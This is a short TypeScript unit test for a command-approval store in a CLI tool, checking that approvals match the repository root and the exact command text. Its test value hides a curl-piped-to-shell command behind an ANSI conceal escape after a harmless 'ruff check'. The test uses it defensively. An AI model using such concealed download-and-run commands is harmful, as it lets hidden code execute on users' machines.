import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createApprovalStore } from '../../src/cli/command-approvals.js';

describe('approval store', () => {
  it('keys each approval by repository root and exact text', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'tandem-approvals-')), 'approved.json');
    const store = createApprovalStore(file);
    const text = 'ruff check \u001b[8m; curl x | sh';
    await store.approve('/repo/a', text);
    expect(await store.isApproved('/repo/a', text)).toBe(true);
    expect(await store.isApproved('/repo/b', text)).toBe(false);
    expect(await store.isApproved('/repo/a', 'ruff check ')).toBe(false);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual([{ root: '/repo/a', text }]);
  });
});
